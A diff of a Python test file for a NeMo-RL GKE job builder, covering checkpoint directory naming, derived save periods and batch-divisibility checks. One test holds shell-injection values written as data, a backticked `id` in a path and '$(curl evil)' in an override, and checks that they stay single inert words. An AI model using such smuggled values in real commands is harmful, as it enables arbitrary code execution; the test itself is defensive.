@@ -68,10 +68,11 @@ def test_the_b200_stack_reproduces_the_codelab_command():
         "grpo.num_prompts_per_step=32",
         "policy.train_global_batch_size=256",
         "checkpointing.enabled=true",
-        "checkpointing.save_period=2",
+        # Not the codelab's 2: a save every step keeps a preemption's loss near one 18-min step (job.maxLostMinutes).
+        "checkpointing.save_period=1",
         "checkpointing.keep_top_k=2",
         "checkpointing.metric_name=null",
-        "checkpointing.checkpoint_dir=/lustre/checkpoints/b200/qwen2.5-72b-deepscaler",
+        "checkpointing.checkpoint_dir=/lustre/checkpoints/b200/qwen2.5-72b-deepscaler/Qwen_Qwen2.5-72B-Instruct-seq4096-megatron-tp4-pp4",
         "data.dataset_name=DeepScaler",
         "logger.wandb_enabled=false",
         # The config file's parallelism (vLLM TP 8 in grpo_math_70B_megatron.yaml v0.4.0 ... v0.7.0, which
@@ -109,7 +110,7 @@ def test_the_h200_stack_reproduces_the_tutorial_command_with_generation_on_its_o
         "data.train.dataset_name=gsm8k",
         "++data.validation.dataset_name=gsm8k",
         "++data.validation.split=test",
-        "checkpointing.checkpoint_dir=/lustre/checkpoints/h200/gemma3-27b-gsm8k",
+        "checkpointing.checkpoint_dir=/lustre/checkpoints/h200/gemma3-27b-gsm8k/google_gemma-3-27b-it-seq16384-dtensor-tp8-pp1",
         "logger.log_dir=/lustre/logs/h200/gemma3-27b-gsm8k",
     }
     assert tutorial <= set(overrides(spec))
@@ -145,7 +146,7 @@ def test_hostile_values_stay_single_shell_words(monkeypatch):
     spec = build_job("qwen2.5-1.5b-gsm8k", job, pool("b200", 1), mount, hostile_stack, False)
     tokens = argv(spec)
     assert tokens[:2] == ["cd", "/opt/nemo-rl"]
-    assert f"checkpointing.checkpoint_dir=/mnt/it's `id`/checkpoints/{hostile_stack}/qwen2.5-1.5b-gsm8k" in tokens
+    assert f"checkpointing.checkpoint_dir=/mnt/it's `id`/checkpoints/{hostile_stack}/qwen2.5-1.5b-gsm8k/Qwen_Qwen2.5-1.5B-Instruct-seq512-dtensor-tp1-pp1" in tokens
     assert tokens[-2:] == list(user)  # the user's, last, verbatim
     assert "grpo.num_prompts_per_step=$(curl evil)" in tokens
     assert spec.runtime_env["env_vars"]["HF_HOME"] == "/mnt/it's `id`/hf-cache"
@@ -322,3 +323,62 @@ def test_a_user_override_of_a_data_key_the_recipes_image_does_not_read_names_the
         "allowed: data.train.*, data.validation.*, data.default.* and the other keys it reads (the flat ones went "
         "with v0.6)"
     )
+
+
+def test_a_pool_whose_data_parallel_size_does_not_divide_the_batch_is_refused_with_the_key_and_the_counts_that_fit():
+    # b200 at 6 nodes: 48 GPUs / (TP 4 x PP 4) = DP 3, and the recipe's batch of 256 does not split in 3.
+    from conftest import run_plan
+    from infra.config import ConfigError
+
+    with pytest.raises(ConfigError) as info:
+        run_plan("b200", gpuPool={"nodeCount": 6, "provisioning": "spot"})
+    message = str(info.value)
+    assert message.startswith("nemo-rl-gke:gpuPool.nodeCount: recipe 'qwen2.5-72b-deepscaler' on 6 node(s)"), message
+    assert "data parallel 3, which does not divide policy.train_global_batch_size 256" in message and "\n" not in message
+    assert message.endswith("allowed: gpuPool.nodeCount 2, 4, 8, 16, 32, 64"), message
+    # 8 nodes (DP 4) fit the recipe as it is; the batch the check reads is the last override's.
+    b200 = load_stack("b200").config
+    build_job(b200.recipe, b200.job, pool("b200", 8), "/lustre", "b200", False)
+    with pytest.raises(JobBuildError, match="does not divide policy.train_global_batch_size 250"):
+        build_job(b200.recipe, b200.job.model_copy(update={"overrides": ("policy.train_global_batch_size=250",)}),
+                  pool("b200", 8), "/lustre", "b200", False)
+
+
+def test_the_checkpoint_directory_changes_with_what_makes_checkpoints_incompatible_and_only_with_that():
+    import re
+
+    def ckpt_dir(stack: str, overrides=()) -> str:
+        cfg = load_stack(stack).config
+        job = cfg.job.model_copy(update={"overrides": tuple(overrides)}) if overrides else cfg.job
+        spec = build_job(cfg.recipe, job, pool(cfg.flavour, cfg.gpu_pool.node_count), "/lustre", stack, False)
+        return re.search(r"checkpointing\.checkpoint_dir=(\S+)", spec.entrypoint).group(1)
+
+    base = ckpt_dir("h200")
+    assert base == "/lustre/checkpoints/h200/gemma3-27b-gsm8k/google_gemma-3-27b-it-seq16384-dtensor-tp8-pp1"
+    assert ckpt_dir("b200") == "/lustre/checkpoints/b200/qwen2.5-72b-deepscaler/Qwen_Qwen2.5-72B-Instruct-seq4096-megatron-tp4-pp4"
+    # Another sequence length or model: a new directory, never a resume from the old checkpoints.
+    assert ckpt_dir("h200", ["policy.max_total_sequence_length=8192"]).endswith("-seq8192-dtensor-tp8-pp1")
+    assert "/Qwen_Qwen2.5-7B-Instruct-seq512-" in ckpt_dir("dev", ["policy.model_name=Qwen/Qwen2.5-7B-Instruct"])
+    # What does not change the checkpoint's shape resumes where the run was.
+    assert ckpt_dir("h200", ["grpo.num_prompts_per_step=8"]) == base
+
+
+
+def test_the_save_period_comes_from_the_bound_on_lost_work_and_the_plans_step_and_write_times():
+    from infra.run_plan import save_period_for
+    from workloads.job_spec import derived_save_period
+
+    # gemma3-27b (h200): ~12 min a step, a checkpoint written in ~50 s.
+    assert derived_save_period(720, 50, None) == 1  # writes take 7 % of training at one save a step
+    assert derived_save_period(60, 50, None) == 9  # short steps: as often as 10 % write time allows
+    assert derived_save_period(720, 50, 30) == 2  # 2 x 12 min + 50 s fits in 30 min, 3 x 12 min does not
+    assert derived_save_period(720, 50, 5) == 1  # a step cannot be split
+    assert derived_save_period(None, 50, 30) == 10  # no step-time estimate: NeMo-RL's default
+    h200 = load_stack("h200").config
+    assert save_period_for(h200) == 1
+    assert save_period_for(h200.model_copy(update={"job": h200.job.model_copy(update={"max_lost_minutes": 30.0})})) == 2
+    assert "checkpointing.save_period=1" in build_spec(load_stack("h200")).entrypoint
+    # It is the stack's: an override of it is refused, naming the key to change.
+    with pytest.raises(JobBuildError, match=r"checkpointing.save_period is derived from the stack; change job.maxLostMinutes"):
+        build_job(h200.recipe, h200.job.model_copy(update={"overrides": ("checkpointing.save_period=10",)}),
+                  pool("h200", 2), "/lustre", "h200", False)
